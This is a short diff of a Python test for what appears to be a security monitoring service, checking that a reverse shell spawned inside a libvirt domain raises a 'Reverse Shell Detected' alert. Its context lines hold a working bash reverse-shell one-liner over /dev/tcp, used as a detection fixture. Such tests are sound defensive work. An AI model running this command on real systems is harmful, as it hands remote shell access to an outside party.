@@ -66,6 +66,8 @@ def test_libvirt_domain(tmp_path):
             d.spawn(f"bash -c 'exec bash -i >& /dev/tcp/{USER_HOST}/{port} 0>&1'")
             assert svc.wait_for(lambda m: named(m, d.name, "Reverse Shell Detected"),
                                 timeout=15), "the reverse shell inside the domain was not alerted"
+            time.sleep(2 * svc.sleep_s + 0.2)      # and nothing more in the scans after
+            svc.poll()
             alerts = [m["activity_data"]["name"] for m in svc.messages
                       if m["message_type"] == "ALERT" and named(m, d.name) and
                       m["activity_data"]["name"] not in Service.ROUTINE_ALERTS]
